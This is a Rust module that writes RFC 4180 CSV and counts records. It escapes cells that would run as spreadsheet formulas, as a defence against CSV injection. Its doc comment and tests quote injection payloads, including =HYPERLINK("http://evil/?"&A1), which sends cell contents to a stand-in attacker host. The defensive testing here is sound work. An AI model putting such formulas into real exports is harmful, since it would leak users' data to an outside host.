//! RFC 4180 CSV, written and counted without holding a file in memory.
//!
//! An export's CSV files are opened in spreadsheets, and a spreadsheet runs a cell that starts
//! with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a prompt or
//! a server's text such as `=HYPERLINK("http://evil/?"&A1)` would run on the user's machine
//! (CSV injection). So every text cell that starts with one of those gets a `'` in front, as
//! OWASP advises and as spreadsheets expect: they show the text, not the `'`. Numbers are cells
//! of their own kind, written as they are, so a credit amount of `-840` stays a number that
//! sums. The JSON files hold the exact text; the CSV files are for reading, not round trips.

use std::io::{self, Write};

/// One CSV cell: text from the user or the server, or a number.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(crate) enum Cell<'a> {
    Text(&'a str),
    Integer(i64),
    Decimal(f64),
}

/// Whether a spreadsheet would run a cell of this text as a formula: it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (OWASP's list).
pub(crate) fn runs_as_formula(text: &str) -> bool {
    matches!(
        text.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// One RFC 4180 record: fields with a comma, quote or line break are quoted, quotes doubled,
/// records end with CRLF. Text is written as given (UTF-8), with a `'` in front when it
/// [`runs_as_formula`]; numbers as Rust prints them.
pub(crate) fn write_row(w: &mut impl Write, cells: &[Cell<'_>]) -> io::Result<()> {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            w.write_all(b",")?;
        }
        match *cell {
            Cell::Text(text) => write_text(w, text)?,
            Cell::Integer(n) => write!(w, "{n}")?,
            Cell::Decimal(x) => write!(w, "{x}")?,
        }
    }
    w.write_all(b"\r\n")
}

/// A header: the column names, as text cells.
pub(crate) fn write_header(w: &mut impl Write, columns: &[&str]) -> io::Result<()> {
    let cells: Vec<Cell<'_>> = columns.iter().map(|c| Cell::Text(c)).collect();
    write_row(w, &cells)
}

fn write_text(w: &mut impl Write, text: &str) -> io::Result<()> {
    let quoted = text.contains([',', '"', '\r', '\n']);
    if quoted {
        w.write_all(b"\"")?;
    }
    if runs_as_formula(text) {
        w.write_all(b"'")?;
    }
    if quoted {
        let mut parts = text.split('"');
        if let Some(first) = parts.next() {
            w.write_all(first.as_bytes())?;
        }
        for part in parts {
            w.write_all(b"\"\"")?;
            w.write_all(part.as_bytes())?;
        }
        w.write_all(b"\"")
    } else {
        w.write_all(text.as_bytes())
    }
}

/// Counts the records of a CSV file fed in chunks: line breaks inside quoted fields do not end
/// a record, and a last record without a line break still counts.
#[derive(Debug, Default)]
pub(crate) struct RecordCounter {
    records: u64,
    in_quotes: bool,
    /// Whether the current record has any byte yet.
    started: bool,
}

impl RecordCounter {
    pub(crate) fn feed(&mut self, bytes: &[u8]) {
        for &b in bytes {
            match b {
                // A doubled quote inside a quoted field toggles twice: no net change.
                b'"' => {
                    self.in_quotes = !self.in_quotes;
                    self.started = true;
                }
                b'\n' if !self.in_quotes => {
                    self.records += 1;
                    self.started = false;
                }
                b'\r' if !self.in_quotes => {}
                _ => self.started = true,
            }
        }
    }

    pub(crate) fn records(&self) -> u64 {
        self.records + u64::from(self.started)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(fields: &[&str]) -> String {
        let mut out = Vec::new();
        write_header(&mut out, fields).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn text_a_spreadsheet_would_run_starts_with_a_quote() {
        assert_eq!(
            row(&["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\r=1", "a=b", "'=1", ""]),
            "'=1+2,'+1,'-x,'@SUM(A1),'\tx,\"'\r=1\",a=b,'=1,\r\n"
        );
        // Quoted text: the quote mark goes inside the quotes.
        assert_eq!(
            row(&["=HYPERLINK(\"http://e/?\"&A1,\"x\")"]),
            "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"\r\n"
        );
        // Text that looks like a negative number is still text.
        assert_eq!(row(&["-840"]), "'-840\r\n");
    }

    #[test]
    fn numbers_are_written_as_numbers() {
        let mut out = Vec::new();
        write_row(
            &mut out,
            &[
                Cell::Integer(-840),
                Cell::Integer(0),
                Cell::Decimal(-0.5),
                Cell::Decimal(1.0),
                Cell::Text("-840"),
            ],
        )
        .unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "-840,0,-0.5,1,'-840\r\n");
    }

    #[test]
    fn only_formula_starts_run_as_formulas() {
        for text in ["=", "+", "-", "@", "\t", "\r", "-1", "@x"] {
            assert!(runs_as_formula(text), "{text:?}");
        }
        for text in ["", "a", "1", " =1", "'=1", "\n=1", "é", "[]", "{}"] {
            assert!(!runs_as_formula(text), "{text:?}");
        }
    }

    #[test]
    fn fields_are_quoted_only_when_needed() {
        assert_eq!(row(&["a", "b c"]), "a,b c\r\n");
        assert_eq!(
            row(&["x,y", "say \"hi\"", "two\nlines", "\""]),
            "\"x,y\",\"say \"\"hi\"\"\",\"two\nlines\",\"\"\"\"\r\n"
        );
        assert_eq!(row(&["café ☕", ""]), "café ☕,\r\n");
    }

    #[test]
    fn records_are_counted_across_quoted_line_breaks_and_chunks() {
        let mut text = Vec::new();
        write_header(&mut text, &["h1", "h2"]).unwrap();
        write_header(&mut text, &["two\r\nlines", "\"q\""]).unwrap();
        write_header(&mut text, &["", ""]).unwrap();
        for chunk in [1, 2, 7, text.len()] {
            let mut counter = RecordCounter::default();
            text.chunks(chunk).for_each(|c| counter.feed(c));
            assert_eq!(counter.records(), 3, "chunks of {chunk}");
        }
        let mut counter = RecordCounter::default();
        counter.feed(b"a,b\r\nc,d");
        assert_eq!(counter.records(), 2);
        let mut counter = RecordCounter::default();
        counter.feed(b"");
        assert_eq!(counter.records(), 0);
    }
}
